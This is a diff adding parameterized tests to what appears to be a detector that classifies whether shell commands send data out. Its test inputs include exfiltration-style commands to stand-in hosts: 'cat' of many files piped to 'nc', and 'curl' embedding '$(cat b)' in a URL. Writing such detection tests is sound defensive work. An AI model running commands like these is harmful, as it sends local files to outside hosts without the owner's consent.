@@ -166,3 +166,11 @@ test('more files than are counted flow as any file', () => {
   const names = Array.from({ length: 80 }, (_, index) => `f${index}`);
   expect(sentBy(`cat ${names.join(' ')} | nc a.b 1`)).toEqual(['nc **/**']);
 });
+
+test.each([
+  ['curl http://a.example/$(date)', 'no'],
+  ['curl "http://a.example/$(command -v node)"', 'no'],
+  ['curl "http://a.example/$(cat b)"', 'certain'],
+])('what prints no file sends nothing: %s: %s', (command, sendsData) => {
+  expect(effectsOf(command).find(({ kind }) => kind === 'connect')).toMatchObject({ sendsData });
+});
